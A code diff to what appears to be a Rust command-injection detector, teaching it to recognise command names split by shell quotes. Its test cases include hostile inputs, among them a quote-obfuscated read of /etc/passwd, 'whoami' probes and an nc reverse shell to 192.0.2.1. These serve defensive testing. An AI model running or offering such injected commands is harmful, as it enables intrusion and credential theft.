@@ -280,10 +280,21 @@ fn command(text: &[u8], mut at: usize, before: Before) -> Option<usize> {
         let runs = is_bin(word) && (lookup(name).is_some() || before != Before::Start);
         return (runs || is_globbed(word)).then_some(at + length);
     }
-    let clarity = lookup(name)?;
+    if matches!(rest.first(), Some(b'\'' | b'"'))
+        && let Some((joined, end)) = quoted_name(text, at)
+        && runs(joined.name(), before, &text[end..])
+    {
+        return Some(end);
+    }
+    runs(name, before, rest).then_some(at + length)
+}
+
+/// Whether the name runs as a command there, with what follows it.
+fn runs(name: &[u8], before: Before, rest: &[u8]) -> bool {
+    let Some(clarity) = lookup(name) else { return false };
     let argument = has_argument(name, rest);
     let ends = ends_here(rest);
-    let runs = match (before, clarity) {
+    match (before, clarity) {
         (Before::Start, Clarity::Clear) => argument || (ends && RECONNAISSANCE.contains(&name)),
         (Before::Start, Clarity::Short | Clarity::Word) | (_, Clarity::Word) => argument,
         (Before::Names, Clarity::Short) => {
@@ -295,8 +306,44 @@ fn command(text: &[u8], mut at: usize, before: Before) -> Option<usize> {
         }
         (Before::Separator | Before::Substitution, Clarity::Short)
         | (Before::Names, Clarity::Clear) => argument || ends,
-    };
-    runs.then_some(at + length)
+    }
+}
+
+/// A name without the quotes that stood between its letters.
+struct Joined {
+    letters: [u8; LONGEST_QUOTED],
+    length: usize,
+}
+
+impl Joined {
+    fn name(&self) -> &[u8] {
+        &self.letters[..self.length]
+    }
+}
+
+/// No command that is worth hiding has a longer name.
+const LONGEST_QUOTED: usize = 12;
+
+/// `w"h"o"am"i`: a name that a shell joins from quoted letters; where it ends. What has
+/// fewer than three letters is a contraction: `i'd`.
+fn quoted_name(text: &[u8], at: usize) -> Option<(Joined, usize)> {
+    let mut joined = Joined { letters: [0; LONGEST_QUOTED], length: 0 };
+    let mut quotes = 0;
+    let mut end = at;
+    while let Some(&byte) = text.get(end) {
+        match byte {
+            b'\'' | b'"' if joined.length > 0 => {
+                quotes += usize::from(text.get(end + 1).is_some_and(u8::is_ascii_alphabetic));
+            }
+            _ if byte.is_ascii_alphanumeric() => {
+                *joined.letters.get_mut(joined.length)? = byte;
+                joined.length += 1;
+            }
+            _ => break,
+        }
+        end += 1;
+    }
+    (quotes > 0 && joined.length >= 3).then_some((joined, end))
 }
 
 /// A word of a command line: a name or a path.
@@ -515,6 +562,9 @@ mod tests {
                 "1 && netsh firewall show",
                 "||echo 79221",
                 "x; nc -e /bin/sh 192.0.2.1 4444",
+                ";w\"h\"o\"am\"i",
+                "; 'wh'oami",
+                ";c'a't /e't'c/pa's'swd",
             ],
         );
     }
@@ -611,6 +661,9 @@ mod tests {
                 "less; more & more",
                 "echo chamber",
                 "sit down; curl up; read",
+                "yes; i'd say so",
+                "rock'n'roll; who's who",
+                "a; l'id",
                 "echo 5 times",
                 "a;b;c",
                 "ruby; perl; python; php",
